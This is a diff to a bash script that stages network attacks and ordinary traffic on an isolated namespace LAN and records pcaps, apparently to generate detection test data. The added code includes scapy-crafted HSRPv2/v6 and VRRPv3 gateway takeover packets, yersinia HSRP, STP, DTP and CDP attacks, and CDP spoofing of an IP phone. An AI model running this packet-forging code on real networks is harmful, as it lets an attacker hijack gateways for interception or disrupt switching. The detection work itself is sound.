@@ -1,7 +1,7 @@
 #!/bin/bash
 # stage-detections.sh OUTDIR [SCENARIO...]: stage attacks and ordinary traffic
 # with the real tools (nmap, hping3, arpspoof, arp-scan, scapy, dnsmasq, curl,
-# thc-ipv6, ndisc6) on a throw-away LAN of network namespaces and record each
+# thc-ipv6, ndisc6, yersinia, keepalived) on a throw-away LAN of network namespaces and record each
 # scenario, as a switch's mirror port shows it, to OUTDIR/SCENARIO.pcap. No
 # scenario list: all of them. Needs root. Every namespace it makes is named
 # d8<random>-*, holds only 10.88.8.0/24, fd88:8::/64 and link-local addresses
@@ -846,6 +846,154 @@ scn_yersinia_hsrp_coup() {
 		sleep 1
 	done
 	wait "$g"
+}
+# HSRP version 2 (224.0.0.102, and for IPv6 UDP 2029 to ff02::66; Cisco's
+# group state TLV, then a text authentication TLV): yersinia 0.8.2 speaks
+# version 1 only and Debian has no HSRP daemon, so scapy speaks for both
+# routers. scapyf NAME HOST BODY ARGS: scapy from its own file (two run at once).
+scapyf() { local f=$1 h=$2 body=$3; shift 3; printf 'import sys, time, struct\nfrom scapy.all import *\nconf.verb = 0\nmac = get_if_hwaddr("eth0")\n%s\n' "$body" >"$tmp/$f.py"; inns "$h" "$py" "$tmp/$f.py" "$@"; }
+# hsrp2_hellos N EVERY OP STATE PRIO GROUP VIP [6]: N HSRPv2 messages EVERY
+# seconds apart, the first with OP, the rest hellos; hello 3 s, hold 10 s.
+hsrp2_hellos='def hsrp2(op, state, prio, grp, vip, v6):
+    vb = inet_pton(socket.AF_INET6, vip) if v6 else inet_pton(socket.AF_INET, vip) + bytes(12)
+    b = struct.pack("!BBBBBBH6sIII", 1, 40, 2, op, state, 6 if v6 else 4, grp, mac2str(mac), prio, 3000, 10000) + vb + struct.pack("!BB8s", 3, 8, b"cisco")
+    if v6:
+        ll = [a[0] for a in in6_getifaddr() if a[2] == "eth0" and a[0].startswith("fe80")][0]
+        return Ether(src=mac, dst="33:33:00:00:00:66")/IPv6(src=ll, dst="ff02::66", hlim=255)/UDP(sport=2029, dport=2029)/Raw(b)
+    return Ether(src=mac, dst="01:00:5e:00:00:66")/IP(src=get_if_addr("eth0"), dst="224.0.0.102", ttl=1)/UDP(sport=1985, dport=1985)/Raw(b)
+n, every, op, state, prio, grp, vip = int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6]), sys.argv[7]
+for i in range(n):
+    sendp(hsrp2(op if i == 0 else 0, state, prio, grp, vip, len(sys.argv) > 8), iface="eth0")
+    time.sleep(every)'
+# The gateway active in HSRPv2 group 1001 (virtual .254) at 110; the attacker's coup and hellos at 255.
+scn_hsrp2_coup_scapy() {
+	scapyf gw2 gw "$hsrp2_hellos" 6 3 0 6 110 1001 $NET.254 & local g=$!
+	sleep 8
+	scapyf ev2 evil "$hsrp2_hellos" 3 3 1 6 255 1001 $NET.254
+	wait "$g"
+}
+# The same over IPv6: group 2, virtual fe80::5:73ff:fea0:2.
+scn_hsrp6_coup_scapy() {
+	scapyf gw6 gw "$hsrp2_hellos" 6 3 0 6 110 2 fe80::5:73ff:fea0:2 6 & local g=$!
+	sleep 8
+	scapyf ev6 evil "$hsrp2_hellos" 3 3 1 6 255 2 fe80::5:73ff:fea0:2 6
+	wait "$g"
+}
+# VRRPv3 (RFC 5798) with keepalived, over IPv4 (VRID 8, virtual .254) and
+# IPv6 (VRID 7, virtual fe80::7 and fd88:8::fe), advertising every second.
+# keepalived_up HOST PRIO: start it on HOST (the gateway 110, pc2 100).
+keepalived_up() {
+	local h=$1 prio=$2
+	cat >"$tmp/ka-$h.conf" <<EOF
+global_defs {
+	vrrp_version 3
+}
+vrrp_instance v4 {
+	interface eth0
+	state BACKUP
+	virtual_router_id 8
+	priority $prio
+	advert_int 1
+	virtual_ipaddress {
+		$NET.254/24
+	}
+}
+vrrp_instance v6 {
+	interface eth0
+	state BACKUP
+	virtual_router_id 7
+	priority $prio
+	advert_int 1
+	native_ipv6
+	virtual_ipaddress {
+		fe80::7/64
+		$ULA::fe/64
+	}
+}
+EOF
+	spawn "$h" keepalived -n -l -P -f "$tmp/ka-$h.conf" -p "$tmp/ka-$h.pid" -r "$tmp/ka-$h-vrrp.pid" -c "$tmp/ka-$h-chk.pid"
+	eval "ka_$h=${pids[-1]}"
+}
+keepalived_down() { local v=ka_$1; kill "${!v}" 2>/dev/null; wait "${!v}" 2>/dev/null || true; }
+# VRRPv3 advertisements over IPv6 for VRID 7 at priority 254, one a second
+# (scapy: a keepalived at 254 would be a router the group hears as master).
+vrrp6_adverts='ll = [a[0] for a in in6_getifaddr() if a[2] == "eth0" and a[0].startswith("fe80")][0]
+body = bytes([0x31, 7, 254, 1, 0, 100, 0, 0]) + inet_pton(socket.AF_INET6, "fe80::7")
+for i in range(int(sys.argv[1])):
+    p = Ether(src=mac, dst="33:33:00:00:00:12")/IPv6(src=ll, dst="ff02::12", hlim=255, nh=112)/Raw(body)
+    ck = in6_chksum(112, p[Raw], body)
+    p[Raw].load = body[:6] + struct.pack("!H", ck) + body[8:]
+    sendp(p, iface="eth0")
+    time.sleep(1)'
+scn_vrrp6_coup_keepalived() {
+	command -v keepalived >/dev/null || { echo "no keepalived" >&2; return 1; }
+	keepalived_up gw 110
+	sleep 7 # a backup waits three intervals and more before it becomes master
+	scapyf v6 evil "$vrrp6_adverts" 6
+	keepalived_down gw
+}
+# Both routers speak VRRPv3 (IPv4 and IPv6): the gateway is master; it stops
+# (priority 0, RFC 5798 6.4.3), pc2 takes over; it comes back and preempts.
+scn_benign_vrrp_failover_keepalived() {
+	command -v keepalived >/dev/null || { echo "no keepalived" >&2; return 1; }
+	keepalived_up gw 110
+	sleep 5
+	keepalived_up pc2 100
+	sleep 5
+	keepalived_down gw
+	sleep 5
+	keepalived_up gw 110
+	sleep 8
+	keepalived_down pc2
+	keepalived_down gw
+}
+# yersinia claims the active role of HSRP group 1 first (a coup, then hellos
+# about every 3 s, priority 255, from a forged MAC), and the real gateway's
+# hellos start after: both routers go on claiming it.
+scn_yersinia_hsrp_coup_first() {
+	local i
+	(for i in 1 0 0 0 0 0; do
+		ys 2 hsrp -attack 0 -opcode 0$i -state 10 -priority FF -group 01 -ipsource $NET.66 -ipvirtual $NET.254 || true
+		sleep 1
+	done) & local y=$!
+	sleep 5
+	scapy gw "$hsrp_hello" 5
+	wait "$y"
+}
+# yersinia says hello in group 1 as a standby router (state 8, priority
+# 100, one source MAC) for 20 s beside the real gateway, then coups at 255
+# and says hello as the active router while the gateway goes on.
+scn_yersinia_hsrp_standby_first() {
+	scapy gw "$hsrp_hello" 20 & local g=$! # a minute: yersinia takes seconds to start each time
+	sleep 4
+	local i
+	for i in 8 8 8 8 8; do
+		ys 2 hsrp -attack 0 -source 00:0c:29:6b:2e:5d -opcode 00 -state 0$i -priority 64 -group 01 -ipsource $NET.66 -ipvirtual $NET.254 || true
+		sleep 1
+	done
+	for i in 1 0 0 0; do
+		ys 2 hsrp -attack 0 -source 00:0c:29:6b:2e:5d -opcode 0$i -state 10 -priority FF -group 01 -ipsource $NET.66 -ipvirtual $NET.254 || true
+		sleep 1
+	done
+	wait "$g"
+}
+# One frame each: yersinia's "sending ... packet" attacks beside the STP switch.
+scn_yersinia_stp_one_conf() { start_stp_switch; ys 2 stp -attack 0 || true; sleep 3; stop_stp_switch; }
+scn_yersinia_stp_one_tcn() { start_stp_switch; ys 2 stp -attack 1 || true; sleep 3; stop_stp_switch; }
+scn_yersinia_dtp_one() { ys 2 dtp -attack 0 || true; }
+scn_yersinia_cdp_one() { ys 2 cdp -attack 0 || true; }
+# The attacker's box announces itself by CDP as an IP phone (capabilities
+# host and phone, as a Cisco phone does; scapy), then yersinia sends one
+# configuration BPDU from the same MAC.
+scn_yersinia_stp_from_phone() {
+	start_stp_switch
+	scapy evil 'from scapy.contrib.cdp import *
+for i in range(2):
+    sendp(Dot3(src=mac, dst="01:00:0c:cc:cc:cc")/LLC(dsap=0xaa, ssap=0xaa, ctrl=3)/SNAP(OUI=0x0c, code=0x2000)/CDPv2_HDR(vers=2, ttl=180, msg=[CDPMsgDeviceID(val=b"SEPB827EB000066"), CDPMsgCapabilities(cap=0x90), CDPMsgPlatform(val=b"Cisco IP Phone 7945")]), iface="eth0")
+    time.sleep(2)'
+	ys 2 stp -attack 0 -source b8:27:eb:00:00:66 || true
+	sleep 3
+	stop_stp_switch
 }
 scn_benign_stp_switch() {
 	# A switch's BPDUs, a topology change when a second port comes up, the gateway's HSRP hellos.
